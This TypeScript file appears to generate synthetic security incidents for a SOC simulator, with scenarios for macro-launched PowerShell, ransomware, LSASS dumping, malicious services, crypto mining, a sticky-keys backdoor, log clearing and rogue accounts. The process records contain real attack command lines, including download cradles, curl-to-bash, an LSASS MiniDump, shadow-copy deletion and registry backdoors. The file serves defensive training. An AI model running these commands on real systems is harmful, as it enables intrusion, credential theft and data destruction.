import {
  benignPositive,
  encodePowerShell,
  falsePositive,
  systemBinary,
  truePositive,
  userOnWorkstation,
  type AlertDraft,
  type Scenario,
} from './scenario';

/** Attacks seen on Windows and Linux machines, modelled on Defender for Endpoint and Defender for Cloud alerts. */
export const ENDPOINT_SCENARIOS: Scenario[] = [
  {
    key: 'powershell-encoded-command',
    weight: 6,
    build(ctx) {
      const { person, account, hostName, host } = userOnWorkstation(ctx);
      const stagerIp = ctx.externalIp();
      const stagerUrl = `http://${stagerIp}/${ctx.rng.pick(['a.ps1', 'update.ps1', 'inv.ps1', 'stage2.ps1'])}`;
      const document = ctx.rng.pick(['Invoice_88213.docm', 'Remittance-Advice.docm', 'CV_Application.doc', 'Q3-Bonus-Plan.docm']);
      const word = ctx.entities.file('C:\\Program Files\\Microsoft Office\\root\\Office16', 'WINWORD.EXE');
      const wordProcess = ctx.entities.process({
        commandLine: `"WINWORD.EXE" /n "C:\\Users\\${person.accountName}\\Downloads\\${document}"`,
        image: word,
        host,
        account,
        createdAt: ctx.at(0),
      });
      const powershell = ctx.entities.file('C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 'powershell.exe');
      ctx.entities.process({
        commandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('${stagerUrl}')`)}`,
        image: powershell,
        host,
        account,
        parent: wordProcess,
        createdAt: ctx.at(0.2),
      });
      ctx.entities.ip(stagerIp);
      ctx.entities.url(stagerUrl);
      const alerts: AlertDraft[] = [
        {
          displayName: 'Suspicious PowerShell command line',
          description: `A suspicious PowerShell command line was run on ${hostName}. WINWORD.EXE started powershell.exe with a hidden window and an encoded command, a pattern common in macro-based malware.`,
          productName: 'Microsoft Defender for Endpoint',
          severity: 'Medium',
          tactics: ['Execution'],
          techniques: ['T1059.001'],
          compromisedEntity: hostName,
        },
        {
          displayName: 'Detected obfuscated command line.',
          description: `Attackers use increasingly complex obfuscation techniques to evade detections that run against the underlying data. Analysis of host data on ${hostName} detected suspicious indicators of obfuscation on the commandline.`,
          productName: 'Microsoft Defender for Endpoint',
          severity: 'Medium',
          tactics: ['DefenseEvasion'],
          techniques: ['T1027.010'],
          compromisedEntity: hostName,
        },
      ];
      const downloaded = ctx.rng.chance(0.3);
      if (downloaded) {
        const certutil = systemBinary(ctx, 'certutil.exe');
        ctx.entities.process({
          commandLine: `certutil.exe -urlcache -split -f http://${stagerIp}/payload.b64 C:\\Users\\Public\\p.b64 && certutil.exe -decode C:\\Users\\Public\\p.b64 C:\\Users\\Public\\svc.exe`,
          image: certutil,
          host,
          account,
          createdAt: ctx.at(0.8),
        });
        alerts.push({
          displayName: 'Detected decoding of an executable using built-in certutil.exe tool',
          description: `Analysis of host data on ${hostName} detected that certutil.exe, a built-in administrator utility, was being used to download and decode an executable instead of its mainstream purpose that relates to manipulating certificates and certificate data.`,
          productName: 'Microsoft Defender for Endpoint',
          severity: 'High',
          tactics: ['DefenseEvasion', 'CommandAndControl'],
          techniques: ['T1140', 'T1105'],
          compromisedEntity: hostName,
        });
      }
      return {
        title: downloaded ? `Multi-stage incident involving Execution & Defense evasion on ${hostName}` : `Suspicious PowerShell command line on ${hostName}`,
        description: `${person.displayName} opened ${document} on ${hostName}; the document launched an encoded PowerShell download cradle pointing at ${stagerUrl}.`,
        severity: downloaded ? 'High' : 'Medium',
        alerts,
        labels: ['Malware'],
        workNotes: [
          `Decoded the -Enc payload: IEX download cradle for ${stagerUrl}. Blocked ${stagerIp} on the perimeter firewall.`,
          `Isolated ${hostName} via Defender for Endpoint and collected an investigation package.`,
          `Asked ${person.displayName} about ${document}: arrived as an email attachment this morning.`,
        ],
        verdicts: [
          truePositive(5, `Macro document ran a PowerShell stager. ${hostName} reimaged, ${person.accountName} password reset, sender blocked.`),
          benignPositive(1, `Encoded command came from the IT packaging team's installer test on ${hostName}; confirmed with the change owner.`),
        ],
      };
    },
  },
  {
    key: 'ransomware',
    weight: 2,
    build(ctx) {
      const { person, account, hostName, host } = userOnWorkstation(ctx);
      const dropper = ctx.rng.pick(['Invoice_2024-0917.pdf.exe', 'Scan_0012.jpg.exe', 'Payment-details.doc.exe']);
      const dropperFile = ctx.entities.file(`C:\\Users\\${person.accountName}\\AppData\\Local\\Temp`, dropper, ctx.entities.randomHashes());
      const dropperProcess = ctx.entities.process({
        commandLine: `"C:\\Users\\${person.accountName}\\AppData\\Local\\Temp\\${dropper}"`,
        image: dropperFile,
        host,
        account,
        createdAt: ctx.at(0),
      });
      ctx.entities.process({
        commandLine: 'vssadmin.exe delete shadows /all /quiet',
        image: systemBinary(ctx, 'vssadmin.exe'),
        host,
        account,
        parent: dropperProcess,
        createdAt: ctx.at(0.4),
        elevated: true,
      });
      ctx.entities.malware(ctx.rng.pick(['Ransom:Win32/LockBit', 'Ransom:Win32/BlackCat', 'Ransom:Win32/Conti']), 'Ransomware', [dropperFile]);
      return {
        title: `Ransomware activity on ${hostName}`,
        description: `Files on ${hostName} were renamed with an unknown extension shortly after ${dropper} ran as ${person.upn}; volume shadow copies were deleted.`,
        severity: 'High',
        alerts: [
          {
            displayName: 'Suspicious double extension file executed',
            description: `Machine logs indicate an execution of a process with a suspicious double extension (${dropper}). This extension may trick users into thinking files are safe to be opened and might indicate the presence of malware on the system.`,
            productName: 'Microsoft Defender for Endpoint',
            severity: 'High',
            tactics: ['Execution', 'DefenseEvasion'],
            techniques: ['T1204.002', 'T1036.007'],
            compromisedEntity: hostName,
          },
          {
            displayName: 'File backups were deleted',
            description: `vssadmin.exe deleted all volume shadow copies on ${hostName}. Ransomware deletes backups to prevent recovery of encrypted files.`,
            productName: 'Microsoft Defender for Endpoint',
            severity: 'High',
            tactics: ['Impact'],
            techniques: ['T1490'],
            compromisedEntity: hostName,
          },
          {
            displayName: 'Ransomware behavior detected in the file system',
            description: `Analysis of host data indicates suspicious activity traditionally associated with encryption ransomware: a process on ${hostName} encrypted and renamed a large number of user files.`,
            productName: 'Microsoft Defender for Endpoint',
            severity: 'High',
            tactics: ['Impact'],
            techniques: ['T1486'],
            compromisedEntity: hostName,
          },
        ],
        labels: ['Ransomware', 'Escalated'],
        workNotes: [
          `Isolated ${hostName}. Disabled ${person.accountName} pending investigation.`,
          `Checked file shares mapped on ${hostName}: no encrypted files on \\\\${ctx.server('FS')}\\shared. Restoring the user profile from backup.`,
        ],
        verdicts: [truePositive(1, `Ransomware contained to ${hostName}; device rebuilt and files restored from last night's backup.`)],
      };
    },
  },
  {
    key: 'lsass-credential-dumping',
    weight: 2,
    build(ctx) {
      const hostName = ctx.server(ctx.rng.pick(['APP', 'FS', 'JUMP']));
      const host = ctx.entities.host(hostName, { osVersion: 'Windows Server 2022' });
      const person = ctx.person();
      const account = ctx.entities.user(person, { onPremises: true });
      const lsassPid = ctx.rng.int(600, 900);
      ctx.entities.process({
        commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsassPid} C:\\Windows\\Temp\\debug.bin full`,
        image: systemBinary(ctx, 'rundll32.exe'),
        host,
        account,
        createdAt: ctx.at(0.3),
        elevated: true,
      });
      ctx.entities.ip(ctx.internalIp());
      return {
        title: `Credential dumping from LSASS memory on ${hostName}`,
        description: `rundll32.exe called comsvcs.dll MiniDump against the LSASS process (PID ${lsassPid}) on ${hostName} as ${person.upn}. Dumped LSASS memory contains credentials of every account signed in to the server.`,
        severity: 'High',
        alerts: [
          {
            displayName: 'Detected suspicious execution via rundll32.exe',
            description: `Analysis of host data on ${hostName} detected rundll32.exe being used to call an exported function of comsvcs.dll, a technique attackers use to proxy execution of malicious code through a signed binary.`,
            productName: 'Microsoft Defender for Endpoint',
            severity: 'Medium',
            tactics: ['DefenseEvasion'],
            techniques: ['T1218.011'],
            compromisedEntity: hostName,
          },
          {
            displayName: 'Possible credential dumping detected',
            description: `Analysis of host data has detected use of a native Windows tool being used in a way that allows to extract credentials from memory on ${hostName}. Attackers use these techniques to extract credentials that they then use for lateral movement and privilege escalation.`,
            productName: 'Microsoft Defender for Endpoint',
            severity: 'High',
            tactics: ['CredentialAccess'],
            techniques: ['T1003.001'],
            compromisedEntity: hostName,
          },
        ],
        labels: ['CredentialTheft'],
        workNotes: [
          `${person.accountName} denies running rundll32 on ${hostName}. Session came from the jump host; pulling its logon events.`,
          'Resetting passwords of all accounts with an interactive session on the server in the last 24h.',
        ],
        verdicts: [
          truePositive(4, `LSASS dump confirmed on ${hostName}; attacker used ${person.accountName}'s stolen credentials. Accounts reset, krbtgt rotation scheduled.`),
          benignPositive(1, `Dump taken by ${person.displayName} for a vendor crash analysis under an approved change; advised to use procdump with a ticket next time.`),
        ],
      };
    },
  },
  {
    key: 'suspicious-service-install',
    weight: 4,
    build(ctx) {
      const hostName = ctx.server(ctx.rng.pick(['APP', 'FS', 'SQL']));
      const host = ctx.entities.host(hostName, { osVersion: 'Windows Server 2019' });
      const serviceName = ctx.rng.pick(['WinUpdateSvc', 'MSDTCx', 'PSEXESVC', `svc${ctx.rng.hex(5)}`]);
      const account = ctx.entities.domainAccount(ctx.rng.pick(['adm_backup', 'svc_deploy', 'adm_helpdesk']), `${ctx.tenant.domainSid}-${ctx.rng.int(1100, 9000)}`);
      const sourceHost = ctx.workstation();
      const imagePath = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${ctx.rng.hex(24)}')))"`;
      ctx.entities.process({
        commandLine: `sc.exe \\\\${hostName} create ${serviceName} binPath= "${imagePath}" start= auto`,
        image: systemBinary(ctx, 'sc.exe'),
        host: ctx.entities.host(sourceHost),
        account,
        createdAt: ctx.at(0),
      });
      ctx.entities.ip(ctx.internalIp());
      const remote = ctx.rng.chance(0.5);
      const alerts: AlertDraft[] = [
        {
          displayName: 'Suspicious service installed',
          description: `Service ${serviceName} was installed on ${hostName} (event 7045) with an image path that runs a hidden PowerShell command.`,
          productName: 'Azure Sentinel',
          severity: 'Medium',
          tactics: ['Persistence', 'PrivilegeEscalation'],
          techniques: ['T1543.003'],
          compromisedEntity: hostName,
        },
      ];
      if (remote) {
        alerts.push({
          displayName: 'Remote service creation and execution',
          description: `${account.properties.accountName} created and started a service on ${hostName} remotely from ${sourceHost} over SMB, a common lateral movement technique.`,
          productName: 'Microsoft Defender for Endpoint',
          severity: 'Medium',
          tactics: ['LateralMovement', 'Execution'],
          techniques: ['T1021.002', 'T1569.002'],
          compromisedEntity: hostName,
        });
      }
      return {
        title: `Suspicious service ${serviceName} installed on ${hostName}`,
        description: `A new auto-start service ${serviceName} on ${hostName} launches an encoded PowerShell command.${remote ? ` It was created remotely from ${sourceHost}.` : ''}`,
        severity: 'Medium',
        alerts,
        labels: ['Persistence'],
        workNotes: [`Service binary path decoded; checking ${sourceHost} for the originating session.`],
        verdicts: [
          truePositive(3, `Attacker persistence via ${serviceName}; service removed, ${account.properties.accountName} disabled and ${sourceHost} reimaged.`),
          benignPositive(2, `${serviceName} is the deployment agent pushed by the platform team; rule tuned to exclude the signed agent path.`),
        ],
      };
    },
  },
  {
    key: 'crypto-mining-vm',
    weight: 3,
    build(ctx) {
      const vmName = `${ctx.tenant.org}-${ctx.rng.pick(['build', 'web', 'batch', 'ml'])}-vm${ctx.rng.int(1, 9)}`;
      const azureId = `/subscriptions/${ctx.tenant.subscriptionId}/resourceGroups/${ctx.tenant.org}-prod-rg/providers/Microsoft.Compute/virtualMachines/${vmName}`;
      const host = ctx.entities.host(vmName, { osFamily: 'Linux', azureID: azureId, domainJoined: false });
      ctx.entities.azureResource(azureId);
      const account = ctx.entities.localAccount(ctx.rng.pick(['azureuser', 'www-data', 'jenkins']), host, `S-1-22-1-${ctx.rng.int(1000, 1100)}`);
      const dropIp = ctx.externalIp();
      const poolIp = ctx.externalIp();
      const curl = ctx.entities.file('/usr/bin', 'curl');
      const bash = ctx.entities.process({
        commandLine: `/bin/bash -c curl -fsSL http://${dropIp}/x.sh | bash`,
        image: ctx.entities.file('/usr/bin', 'bash'),
        host,
        account,
        createdAt: ctx.at(0),
      });
      ctx.entities.process({ commandLine: `curl -fsSL http://${dropIp}/x.sh`, image: curl, host, account, parent: bash, createdAt: ctx.at(0.05) });
      const miner = ctx.entities.file('/tmp/.X11-cache', 'kworkerds', ctx.entities.randomHashes());
      ctx.entities.process({
        commandLine: `/tmp/.X11-cache/kworkerds -o stratum+tcp://${poolIp}:3333 -u 4${ctx.rng.hex(40)} -p x -t ${ctx.rng.pick([2, 4, 8])} --donate-level=1`,
        image: miner,
        host,
        account,
        parent: bash,
        createdAt: ctx.at(0.3),
      });
      ctx.entities.ip(dropIp);
      ctx.entities.ip(poolIp);
      return {
        title: `Digital currency mining on ${vmName}`,
        description: `A script downloaded from ${dropIp} started a cryptocurrency miner on the Azure VM ${vmName}, connecting to a mining pool at ${poolIp}.`,
        severity: 'Medium',
        alerts: [
          {
            displayName: 'Suspicious download then run activity',
            description: `Analysis of host data on ${vmName} detected a file being downloaded with curl and piped directly to bash.`,
            productName: 'Microsoft Defender for Cloud',
            severity: 'Medium',
            alertType: 'VM_DownloadThenRun',
            tactics: ['Execution', 'CommandAndControl'],
            techniques: ['T1059.004', 'T1105'],
            compromisedEntity: vmName,
          },
          {
            displayName: 'Digital currency mining related behavior detected',
            description: `Analysis of host data on ${vmName} detected the execution of a process or command normally associated with digital currency mining.`,
            productName: 'Microsoft Defender for Cloud',
            severity: 'High',
            alertType: 'VM_CurrencyMining',
            tactics: ['Impact'],
            techniques: ['T1496.001'],
            compromisedEntity: vmName,
          },
        ],
        labels: ['CryptoMining', 'Cloud'],
        workNotes: [
          `CPU on ${vmName} pinned at 100% since the first alert. Stopped the VM and snapshotted the OS disk.`,
          `Initial access likely via the exposed Jenkins console; NSG now restricts 8080 to the corporate range.`,
        ],
        verdicts: [truePositive(1, `Miner removed and ${vmName} rebuilt from image; Jenkins patched and no longer internet-facing.`)],
      };
    },
  },
  {
    key: 'sticky-keys-backdoor',
    weight: 2,
    build(ctx) {
      const hostName = ctx.server(ctx.rng.pick(['JUMP', 'APP']));
      const host = ctx.entities.host(hostName, { osVersion: 'Windows Server 2016' });
      const account = ctx.entities.localAccount('Administrator', host, `S-1-5-21-${ctx.rng.int(1e9, 4e9)}-${ctx.rng.int(1e9, 4e9)}-${ctx.rng.int(1e9, 4e9)}-500`);
      const ifeo = 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe';
      const key = ctx.entities.registryKey('HKEY_LOCAL_MACHINE', ifeo);
      ctx.entities.registryValue(key, 'Debugger', 'C:\\Windows\\System32\\cmd.exe', 'String');
      ctx.entities.process({
        commandLine: `reg.exe add "HKLM\\${ifeo}" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f`,
        image: systemBinary(ctx, 'reg.exe'),
        host,
        account,
        createdAt: ctx.at(0.5),
        elevated: true,
      });
      return {
        title: `Sticky keys backdoor on ${hostName}`,
        description: `An Image File Execution Options debugger was set for sethc.exe on ${hostName}, so pressing Shift five times at the logon screen opens a SYSTEM command prompt.`,
        severity: 'Medium',
        alerts: [
          {
            displayName: 'Sticky keys attack detected',
            description: `Analysis of host data indicates that an attacker may be subverting an accessibility binary (sticky keys) in order to provide backdoor access to the host ${hostName}.`,
            productName: 'Microsoft Defender for Cloud',
            severity: 'Medium',
            alertType: 'VM_StickyKeys',
            tactics: ['Persistence', 'PrivilegeEscalation'],
            techniques: ['T1546.008'],
            compromisedEntity: hostName,
          },
        ],
        labels: ['Persistence'],
        workNotes: [`Removed the Debugger value from the sethc.exe IFEO key on ${hostName}.`],
        verdicts: [truePositive(1, `Backdoor removed; local Administrator password rotated through LAPS on ${hostName}.`)],
      };
    },
  },
  {
    key: 'event-log-cleared',
    weight: 4,
    build(ctx) {
      const hostName = ctx.rng.chance(0.5) ? ctx.server(ctx.rng.pick(['DC', 'FS', 'APP'])) : ctx.workstation();
      const host = ctx.entities.host(hostName);
      const person = ctx.person();
      const account = ctx.entities.user(person, { onPremises: true });
      ctx.entities.process({ commandLine: 'wevtutil.exe cl Security', image: systemBinary(ctx, 'wevtutil.exe'), host, account, createdAt: ctx.at(0), elevated: true });
      return {
        title: `Security event log cleared on ${hostName}`,
        description: `The Security event log on ${hostName} was cleared by ${person.upn} (event 1102).`,
        severity: 'Low',
        alerts: [
          {
            displayName: 'An event log was cleared',
            description: `Machine logs indicate a suspicious event log clearing operation by user: '${person.accountName}' in Machine: '${hostName}'. The Security log was cleared.`,
            productName: 'Microsoft Defender for Cloud',
            severity: 'Low',
            alertType: 'VM_EventLogClear',
            tactics: ['DefenseEvasion'],
            techniques: ['T1070.001'],
            compromisedEntity: hostName,
          },
        ],
        labels: [],
        workNotes: [`Contacted ${person.displayName} about clearing the Security log on ${hostName}.`],
        verdicts: [
          benignPositive(3, `${person.displayName} cleared the log while troubleshooting a full disk during maintenance; reminded about the log retention policy.`),
          truePositive(1, `Log clearing followed an unexplained RDP logon to ${hostName}; escalated to Tier 2 and host isolated.`),
        ],
      };
    },
  },
  {
    key: 'suspicious-account-creation',
    weight: 3,
    build(ctx) {
      const hostName = ctx.server(ctx.rng.pick(['APP', 'WEB', 'SQL']));
      const host = ctx.entities.host(hostName, { osVersion: 'Windows Server 2019' });
      const person = ctx.person();
      const creator = ctx.entities.user(person, { onPremises: true });
      const rogue = ctx.rng.pick(['adm1nistrator', 'administrat0r', 'supp0rt', 'helpdeskk']);
      ctx.entities.localAccount(rogue, host, `S-1-5-21-${ctx.rng.int(1e9, 4e9)}-${ctx.rng.int(1e9, 4e9)}-${ctx.rng.int(1e9, 4e9)}-${ctx.rng.int(1001, 1020)}`);
      ctx.entities.process({
        commandLine: `net.exe user ${rogue} /add /active:yes`,
        image: systemBinary(ctx, 'net.exe'),
        host,
        account: creator,
        createdAt: ctx.at(0.2),
        elevated: true,
      });
      return {
        title: `Suspicious local account ${rogue} created on ${hostName}`,
        description: `${person.upn} created the local account ${rogue} on ${hostName}; the name closely resembles a built-in Windows account.`,
        severity: 'Medium',
        alerts: [
          {
            displayName: 'Suspicious Account Creation Detected',
            description: `Analysis of host data on ${hostName} detected creation or use of a local account ${rogue}: this account name closely resembles a standard Windows account or group name. This is potentially a rogue account created by an attacker, so named in order to avoid being noticed by a human administrator.`,
            productName: 'Microsoft Defender for Cloud',
            severity: 'Medium',
            alertType: 'VM_SuspiciousAccountCreation',
            tactics: ['Persistence'],
            techniques: ['T1136.001'],
            compromisedEntity: hostName,
          },
        ],
        labels: ['Persistence'],
        workNotes: [`Disabled local account ${rogue} on ${hostName}; reviewing ${person.accountName}'s recent sign-ins.`],
        verdicts: [
          truePositive(2, `Rogue account ${rogue} created with ${person.accountName}'s compromised credentials; account deleted and credentials reset.`),
          falsePositive(1, `${rogue} is a typo by ${person.displayName} while creating a break-glass account; account removed.`, 'InaccurateData'),
        ],
      };
    },
  },
];
